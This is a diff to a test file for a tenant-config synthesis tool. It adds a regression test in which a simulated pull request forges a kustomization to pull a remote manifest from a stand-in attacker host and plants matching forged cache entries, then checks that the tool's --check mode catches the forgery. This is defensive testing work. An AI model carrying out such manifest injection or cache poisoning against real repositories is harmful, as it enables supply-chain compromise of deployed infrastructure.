@@ -3,10 +3,12 @@
  * deterministic, --check tells fresh from stale, removed tenants are pruned, and re-synthesizing
  * (which skips folders it wrote itself) never leaves generated/ different from a synth from scratch.
  */
-import { existsSync, readdirSync, rmSync, unlinkSync, writeFileSync } from 'node:fs';
-import { join } from 'node:path';
+import { cpSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, unlinkSync, writeFileSync } from 'node:fs';
+import { join, relative } from 'node:path';
+import { formatRenderEntry, parseRenderEntry } from '../../lib/io/render-cache.ts';
 import { afterAll, describe, expect, it, vi } from 'vitest';
 import { cleanRepos, cli, hashTree, makeRepo, readTenant, spawnCli, tenantSource, treeOf, writeTenant } from './repo.ts';
+import { workspaceCacheDir } from '../../lib/io/workspace-cache.mjs';
 
 // Each case synthesizes a repository, some in child processes: minutes on a busy 2-core machine.
 vi.setConfig({ testTimeout: 180_000 });
@@ -41,7 +43,7 @@ describe('synth output', () => {
     expect(hashTree(root)).toBe(tree);
 
     rmSync(join(root, 'generated'), { recursive: true });
-    rmSync(join(root, '.tenantctl'), { recursive: true });
+    rmSync(workspaceCacheDir(root), { recursive: true });
     await synthOk(root, '--no-cache');
     expect(hashTree(root)).toBe(tree);
 
@@ -49,6 +51,33 @@ describe('synth output', () => {
     const child = spawnCli(root, 'synth');
     expect(child.code, child.err).toBe(0);
     expect(hashTree(root)).toBe(tree);
+  });
+
+  it('keeps its caches outside the working copy, so cache entries a pull request commits there cannot make a forged generated/ pass --check', async () => {
+    const author = makeRepo(['acme']);
+    await synthOk(author);
+    expect(readdirSync(author).sort()).toEqual(['fleet.ts', 'generated', 'lib', 'node_modules', 'package.json', 'tenants', 'tiers', 'vendor']);
+    // The pull request: a kustomization in generated/ forged to pull in a remote manifest, and render entries forged to match, committed where a
+    // cache in the working copy would be (.tenantctl/cache/render/, as synth kept it before).
+    const forged = 'eu-west-shared-1/tenants/acme-staging/kustomization.yaml';
+    const clone = makeRepo(['acme']);
+    cpSync(join(author, 'generated'), join(clone, 'generated'), { recursive: true });
+    const edit = (text: string) => text.replace('resources:\n', 'resources:\n  - https://attacker.example/payload.yaml\n');
+    writeFileSync(join(clone, 'generated', forged), edit(readFileSync(join(author, 'generated', forged), 'utf8')));
+    const entries = readdirSync(join(workspaceCacheDir(author), 'render'), { recursive: true, withFileTypes: true }).filter((e) => e.isFile());
+    let planted = 0;
+    for (const e of entries) {
+      const files = parseRenderEntry(readFileSync(join(e.parentPath, e.name), 'utf8'));
+      if (!files?.some((f) => f.path === forged)) continue;
+      const to = join(clone, '.tenantctl', 'cache', 'render', relative(join(workspaceCacheDir(author), 'render'), e.parentPath));
+      mkdirSync(to, { recursive: true });
+      writeFileSync(join(to, e.name), formatRenderEntry(files.map((f) => (f.path === forged ? { ...f, content: edit(f.content) } : f))));
+      planted++;
+    }
+    expect(planted).toBeGreaterThan(0);
+    const check = await cli(clone, 'synth', '--check');
+    expect(check.code).toBe(1);
+    expect(check.out).toContain(`~ generated/${forged}`);
   });
 
   it('has one folder per tenant environment, each with a kustomization listing its files', async () => {
@@ -140,7 +169,7 @@ describe('re-synth', () => {
     const root = makeRepo();
     await synthOk(root);
     const tree = hashTree(root);
-    rmSync(join(root, '.tenantctl'), { recursive: true });
+    rmSync(workspaceCacheDir(root), { recursive: true });
     expect((await synthOk(root)).out).toMatch(/^generated\/ unchanged/);
     expect(hashTree(root)).toBe(tree);
   });
